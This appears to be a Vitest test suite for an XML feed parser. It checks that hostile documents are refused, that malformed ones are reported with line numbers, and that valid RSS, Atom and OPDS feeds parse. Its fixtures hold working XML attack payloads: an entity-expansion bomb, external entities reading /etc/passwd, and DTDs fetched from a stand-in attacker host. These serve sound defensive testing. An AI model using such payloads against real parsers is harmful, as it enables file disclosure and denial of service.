// XML of feeds: what its tree holds, and hostile documents, which end early with a code.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it, onTestFinished } from 'vitest';
import { parseXml, textOf } from '../../../../main/acquire/feeds/xml-tree.ts';
import { atom, catalogueOf, firstEntryOf, refusalOf, rss } from './read-text.ts';

const entities = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join('');

describe('a hostile document', () => {
  it.each([
    ['entities in entities', `<!DOCTYPE feed [<!ENTITY l0 "lol">${entities}]><feed>&l9;</feed>`],
    ['an entity of a file', '<!DOCTYPE feed [<!ENTITY x SYSTEM "file:///etc/passwd">]><feed><title>&x;</title></feed>'],
    ['a declaration from elsewhere', '<!DOCTYPE feed SYSTEM "https://evil.example/feed.dtd"><feed/>'],
    ['a parameter entity', '<!DOCTYPE feed [<!ENTITY % x SYSTEM "https://evil.example/x"> %x;]><feed/>'],
    ['a declaration in small letters', '<!doctype feed []><feed/>'],
    [
      'a declaration behind the prolog',
      '<?xml version="1.0"?>\n<!-- c -->\n<!DOCTYPE rss><rss><channel><title>x</title></channel></rss>',
    ],
    ['a declaration inside', '<feed xmlns="http://www.w3.org/2005/Atom"><!DOCTYPE x><title>x</title></feed>'],
    ['many declarations', `${'<!DOCTYPE x [<!ENTITY a "b">]>'.repeat(100_000)}<feed/>`],
    ['entities under the name of a page', '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><feed>&x;</feed>'],
  ])('with %s is refused for its declaration', (_, body) => {
    const document = body.startsWith('<?xml') ? body : `<?xml version="1.0"?>${body}`;
    expect(refusalOf(document).code).toBe('source/doctype');
  });

  it('asks nobody for anything', async () => {
    let requests = 0;
    const server = createServer((_, response) => {
      requests += 1;
      response.end('x');
    });
    onTestFinished(() => void server.close());
    await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
    const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
    for (const kind of ['SYSTEM', 'PUBLIC "x"']) {
      const declared = `<!DOCTYPE feed ${kind} "${address}dtd" [<!ENTITY x SYSTEM "${address}x">]><feed>&x;</feed>`;
      expect(refusalOf(declared).code).toBe('source/doctype');
    }
    const quiet = atom(
      `<link rel="next" href="${address}"/><x:include xmlns:x="http://www.w3.org/2001/XInclude" href="${address}"/>`,
    );
    expect(catalogueOf(`<?xml-stylesheet href="${address}"?>${quiet.replace(/<\?xml.*?\?>/, '')}`).paging.next).toBe(address);
    await new Promise((resolve) => void setTimeout(resolve, 50));
    expect(requests).toBe(0);
  });

  it.each([
    ['3,000,000 references in one text', 'references', rss(`<description>${'&#65;'.repeat(3_000_000)}</description>`)],
    ['1,100,000 references in many texts', 'references', rss(`<x>${'&#x41;'.repeat(100)}</x>`.repeat(11_000))],
    ['500,000 references in an attribute', 'references', rss(`<x a="${'&#x41;'.repeat(500_000)}"/>`)],
    ['500,000 attributes', 'references', `<feed ${Array.from({ length: 500_000 }, (_, index) => `a${index}=""`).join(' ')}/>`],
    ['1,100,000 elements', 'elements', rss('<x/>'.repeat(1_100_000))],
    ['300 levels', 'depth', rss('<x>'.repeat(300) + '</x>'.repeat(300))],
    ['1,000,000 levels that never close', 'depth', '<feed>'.padEnd(900_000, '<x>')],
    ['20 MB', 'bytes', rss(`<description>${'x'.repeat(20_000_000)}</description>`)],
  ])('of %s is refused as too large', (_, reason, text) => {
    expect(refusalOf(text)).toEqual({ code: 'source/too-large', detail: { reason } });
  });

  it('may not use names for what nobody declared', () => {
    expect(refusalOf(rss('<description>&xxe;</description>'))).toMatchObject({ code: 'source/bad-feed' });
    expect(refusalOf(rss('<description>&__proto__;</description>')).code).toBe('source/bad-feed');
  });

  it('may hold a title of a megabyte, of which little is kept', () => {
    const { title } = firstEntryOf(rss(`<item><guid>g</guid><title>${'Le Matin '.repeat(120_000)}</title></item>`));
    expect(title.length).toBeLessThanOrEqual(2_000);
    expect(title.startsWith('Le Matin Le Matin')).toBe(true);
  });
});

describe('a document that is not well formed', () => {
  it.each([
    ['a tag that never closes', '<rss>\n<channel>\n<title>x</title>', 3],
    ['tags that cross', '<rss><channel>\n<a><b></a></b></channel></rss>', 2],
    ['a bare ampersand', '\n\n<rss><channel><title>A & B</title></channel></rss>', 3],
    ['two roots', '<rss/>\n<rss/>', 2],
    ['text behind the root', '<rss></rss>\nFatal error', 2],
    ['a prefix that nobody knows', '<rss>\n<zz:x/></rss>', 2],
    ['a reference to nothing', '<rss>&#0;</rss>', 1],
  ])('with %s is bad, and the line is named', (_, text, line) => {
    const { code, detail } = refusalOf(text);
    expect(code).toBe('source/bad-feed');
    expect(detail).toMatchObject({ line, reason: expect.any(String) });
  });

  it('is bad although it is full of what is well formed', () => {
    expect(refusalOf(rss('<item><guid>g</guid></item>'.repeat(5_000)).slice(0, -20)).code).toBe('source/bad-feed');
  });
});

describe('a document that is well formed', () => {
  it('may hold declarations of pages inside CDATA and comments', () => {
    const feed = rss(
      '<!-- <!DOCTYPE x> --><item><guid>g</guid><description><![CDATA[<!DOCTYPE html><p>Un &amp; deux</p>]]></description></item>',
    );
    expect(firstEntryOf(feed).summary).toBe('Un & deux');
  });

  it('may name the characters of HTML, and leave out control signs', () => {
    expect(
      firstEntryOf(rss('<item><guid>g</guid><title>L&rsquo;&eacute;t&eacute;&nbsp;\u0008\u000B2024</title></item>')).title,
    ).toBe('L’été 2024');
  });

  it('may begin late', () => {
    expect(catalogueOf(`\uFEFF \n\t${rss('')}`).title).toBe('Le Soir');
    expect(catalogueOf(`\n<?xml version="1.0" encoding="utf-8"?>\n<!-- by hand -->\n${rss('')}`).title).toBe('Le Soir');
  });

  it('names elements by their vocabulary, whatever its prefix', () => {
    const root = parseXml(
      '<q:feed xmlns:q="http://www.w3.org/2005/Atom" xmlns:dc="http://purl.org/dc/terms/"><dc:issued>x</dc:issued></q:feed>',
      'https://a.example/',
    );
    expect(root.name).toBe('atom:feed');
    expect(root.children.map((child) => typeof child === 'object' && child.name)).toEqual(['dcterms:issued']);
    expect(textOf(root)).toBe('x');
  });

  it('may have 5,000 entries', () => {
    const entry = `<entry><id>urn:ID</id><title>Le Matin</title><dcterms:issued>2024-03-28</dcterms:issued>
      <link rel="http://opds-spec.org/acquisition" type="application/pdf" href="ID.pdf"/></entry>`;
    const { entries, skipped } = catalogueOf(
      atom(Array.from({ length: 5_000 }, (_, index) => entry.replaceAll('ID', String(index))).join('')),
    );
    expect([entries.length, skipped, entries.at(-1)?.acquisitions[0]?.url]).toEqual([
      5_000,
      0,
      'https://press.example/opds/4999.pdf',
    ]);
  });
});
